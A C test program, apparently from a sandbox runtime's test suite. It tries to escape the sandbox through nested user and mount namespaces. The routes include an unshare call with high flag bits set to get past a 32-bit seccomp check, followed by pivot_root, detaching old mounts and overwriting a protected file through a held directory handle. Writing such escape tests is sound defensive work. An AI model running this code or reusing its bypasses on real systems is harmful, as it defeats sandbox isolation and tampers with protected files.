// The chain of srt's test "linux-nested-userns": keep a handle on the directory that holds a protected file, make a user and
// mount namespace, detach the old root with every mount in it, and rename the file aside through the handle. Each step is
// tried whatever became of the one before, and the namespaces by each system call that makes them.
// nested_namespaces FOLDER NAME TEXT: makes NAME in FOLDER hold TEXT.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char* name;
static const char* text;
static int folder;
static unsigned uid, gid;

static void said(const char* what, long result) {
  fprintf(stderr, "%s: %s\n", what, result < 0 ? strerror(errno) : "done");
}

static void write_map(const char* path, const char* map) {
  int file = open(path, O_WRONLY);
  if (file < 0) return;
  said(path, write(file, map, strlen(map)));
  close(file);
}

static void attack(void) {
  char map[64];
  write_map("/proc/self/setgroups", "deny");
  snprintf(map, sizeof map, "0 %u 1", uid);
  write_map("/proc/self/uid_map", map);
  snprintf(map, sizeof map, "0 %u 1", gid);
  write_map("/proc/self/gid_map", map);
  said("private", mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL));
  said("tmpfs", mount("x", "/tmp", "tmpfs", 0, NULL));
  mkdir("/tmp/old", 0700);
  said("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp/old"));
  said("chdir", chdir("/"));
  said("detach", umount2("/old", MNT_DETACH));
  said("rename aside", renameat(folder, name, folder, "aside"));
  int file = openat(folder, name, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  said("write", file < 0 ? -1 : write(file, text, strlen(text)));
}

enum way { unshared, unshared_twice, unshared_high_bits, unshared_mounts, cloned, cloned_3, ways };

// In the child that is in the new namespaces, or would be.
static int begin(enum way way) {
  const unsigned long long both = CLONE_NEWUSER | CLONE_NEWNS;
  struct clone_args arguments = {.flags = both, .exit_signal = SIGCHLD};
  long child = way == cloned     ? syscall(SYS_clone, both | SIGCHLD, 0, 0, 0, 0)
               : way == cloned_3 ? syscall(SYS_clone3, &arguments, sizeof arguments)
                                 : fork();
  if (child != 0) {
    said("child", child);
    if (child > 0) waitpid((pid_t)child, NULL, 0);
    return 0;
  }
  if (way == unshared) said("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS));
  if (way == unshared_twice) said("unshare twice", unshare(CLONE_NEWUSER) | unshare(CLONE_NEWNS));
  // A filter compares 32 bits at a time, the kernel takes 64.
  if (way == unshared_high_bits) said("unshare, high bits", syscall(SYS_unshare, 0xffffffff00000000ULL | both));
  if (way == unshared_mounts) said("unshare mounts", unshare(CLONE_NEWNS));
  return 1;
}

int main(int count, char** arguments) {
  if (count != 4) return 2;
  uid = getuid(), gid = getgid();
  folder = open(arguments[1], O_PATH | O_DIRECTORY);
  name = arguments[2], text = arguments[3];
  for (enum way way = unshared; way < ways; ++way)
    if (begin(way)) {
      attack();
      return 0;
    }
  return 0;
}
